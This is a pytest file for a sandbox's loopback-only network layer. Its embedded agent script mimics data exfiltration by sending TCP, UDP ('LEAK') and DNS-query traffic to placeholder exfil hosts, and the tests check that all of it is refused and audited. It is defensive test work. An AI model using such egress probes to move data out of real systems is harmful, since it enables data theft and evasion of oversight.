"""The loopback-only layer under `landgate run`: the whole sandbox (supervisor + namespace).

Split from test_loopback_only.py (the layer itself).  The attacks fail and are recorded
with the layer's name; the allowed twins: the agent's private loopback, and a host
listener on an allowed `localhost:*` port that appears after the launch (the
forwarder's rescan), on both rungs.
"""

from __future__ import annotations

import os
import subprocess

import pytest
from conftest import require_kernel, scaled

from sandbox.host.network import LOOPBACK_ONLY_LAYER

from .conftest import ADDRS
from .test_loopback_only import _leaks

# The agent's attacks under the whole sandbox (supervisor + namespace), and its private
# loopback (the allowed twin).  System python3 has no dnslib: the query is packed by hand.
AGENT = """
import errno, socket, struct, threading
def question(name):
    q = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    for part in name.split("."):
        q += bytes([len(part)]) + part.encode()
    return q + b"\\0" + struct.pack("!HH", 1, 1)
def tcp():
    socket.create_connection(("EXFIL_IP", 80), timeout=3).close()
def udp():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"LEAK", ("EXFIL_IP", 9999))
def dns():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    s.sendto(question("leak.exfil.test"), ("DNS_IP", 53)); s.recv(512)
out = []
for fn in (tcp, udp, dns):
    try:
        fn(); out.append("reached")
    except OSError as e:
        out.append(errno.errorcode.get(e.errno, "?"))
try:
    socket.getaddrinfo("exfil.test", 80); out.append("resolved")
except socket.gaierror:
    out.append("nxdomain")
srv = socket.socket(); srv.bind(("127.0.0.1", 0)); srv.listen(1)
def serve():
    c, _ = srv.accept(); c.sendall(b"own:" + c.recv(8)); c.close()
threading.Thread(target=serve, daemon=True).start()
c = socket.create_connection(srv.getsockname(), timeout=5); c.sendall(b"ping")
out.append(c.recv(16).decode())
print(" ".join(out), flush=True)
""".replace("EXFIL_IP", ADDRS["exfil"]).replace("DNS_IP", ADDRS["dns"])


def _policy(world, network_rules: str = ""):
    """Reads of the workspace, any program, and no network but `network_rules` (YAML
    rule lines under the network block): the layer under test is then loopback-only."""
    rules = f"    rules:\n{network_rules}" if network_rules else ""
    return world.write_policy(
        f"""\
version: 1
workspace: {world.workspace}
actions:
  - action: file_read
    defaultEffect: deny
    rules:
      - {{ path: "./**", effect: allow }}
  - action: shell_exec
    defaultEffect: allow
  - action: network
    defaultEffect: deny
{rules}"""
    )


def test_landgate_run_records_every_attempt_and_says_which_layer(world, fake_inet) -> None:
    from conftest import require_kernel
    from launch.lg_helpers import audit_show_json, landgate, py

    from sandbox.host.probe import probe_host

    host = probe_host()
    require_kernel(host.is_root and host.net_ns and host.seccomp_notify, "root, netns, unotify")
    policy = _policy(world)
    mark = fake_inet.mark()
    p = landgate(world, py(AGENT), policy=policy)
    assert p.returncode == 0, p.stderr
    assert p.stdout.decode().split() == [
        "ECONNREFUSED",
        "ECONNREFUSED",
        "ECONNREFUSED",
        "nxdomain",
        "own:ping",
    ], (p.stdout, p.stderr)
    assert not _leaks(fake_inet, mark)
    entries = audit_show_json(world.root / "xdg")
    (start,) = [e for e in entries if e.get("type") == "session_start"]
    assert start["network_layer"] == LOOPBACK_ONLY_LAYER
    (egress,) = [x for x in start["applied_layers"] if x["name"] == "egress"]
    assert egress["mechanism"] == LOOPBACK_ONLY_LAYER and egress["state"] == "enforced"
    denied = {(e.get("layer"), e.get("target")) for e in entries if e.get("result") == "deny"}
    for target in (f"{ADDRS['exfil']}:80", f"{ADDRS['exfil']}:9999", f"{ADDRS['dns']}:53"):
        assert ("connect", target) in denied, denied
    assert ("dns", "exfil.test") in denied, denied
    # The private loopback is not a denial, and was not reported as one.
    assert not any("127.0.0.1" in str(t) for _, t in denied)


RESCAN_AGENT = """
import socket, sys, time
port = int(sys.argv[1])
print("started", flush=True)
deadline = time.monotonic() + 20
while True:
    try:
        s = socket.create_connection(("127.0.0.1", port), timeout=2)
        s.recv(10); s.sendall(b"late-listener"); s.close(); print("host-ok", flush=True); break
    except OSError as e:
        if time.monotonic() > deadline:
            print(type(e).__name__, flush=True); break
        time.sleep(0.2)
"""


@pytest.mark.parametrize("rung", ["root", "userns"])
def test_localhost_any_port_forwards_a_listener_that_appears_later(world, rung) -> None:
    """`localhost:*`: the forwarder's rescan binds new listeners in the sandbox's namespace
    (on the unprivileged rung the helper binds them and hands them over)."""
    import socket as pysocket

    from launch.lg_helpers import PY, ROOT

    from sandbox.host.probe import probe_host

    host = probe_host()
    require_kernel(host.is_root and host.net_ns and host.seccomp_notify, "root, netns, unotify")
    as_nobody = rung == "userns"
    if as_nobody:
        require_kernel(host.user_ns, "unprivileged user namespaces")
        os.chmod(world.workspace, 0o777)
    probe = pysocket.socket()
    probe.bind(("127.0.0.1", 0))
    port = probe.getsockname()[1]
    probe.close()
    policy = _policy(world, '      - { destination: "localhost:*", effect: allow }\n')
    xdg = world.root / ("xdg-nobody" if as_nobody else "xdg")
    for sub in ("state", "config"):
        (xdg / sub).mkdir(parents=True, exist_ok=True)
        if as_nobody:
            os.chown(xdg, 65534, 65534)
            os.chown(xdg / sub, 65534, 65534)
    cmd = [PY, "-m", "sandbox", "run", "--policy", str(policy), "--"]
    cmd += ["/usr/bin/python3", "-c", RESCAN_AGENT, str(port)]
    if as_nobody:
        cmd = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", *cmd]
    env = {**world.env, "PYTHONPATH": str(ROOT)}
    env.update(XDG_STATE_HOME=str(xdg / "state"), XDG_CONFIG_HOME=str(xdg / "config"))
    proc = subprocess.Popen(
        cmd, cwd=world.workspace, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE
    )
    try:
        assert proc.stdout is not None
        assert proc.stdout.readline().strip() == b"started"
        late = pysocket.socket()  # appears after the launch: only a rescan forwards it
        late.setsockopt(pysocket.SOL_SOCKET, pysocket.SO_REUSEADDR, 1)
        late.bind(("127.0.0.1", port))
        late.listen(4)
        late.settimeout(scaled(25))
        conn, _ = late.accept()
        try:
            conn.sendall(b"hello")
            got = conn.recv(64)
        except OSError as exc:
            got = repr(exc).encode()
        conn.close()
        late.close()
        out, err = proc.communicate(timeout=scaled(30))
        assert got == b"late-listener", (got, err)
        assert out.split() == [b"host-ok"], (out, err)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
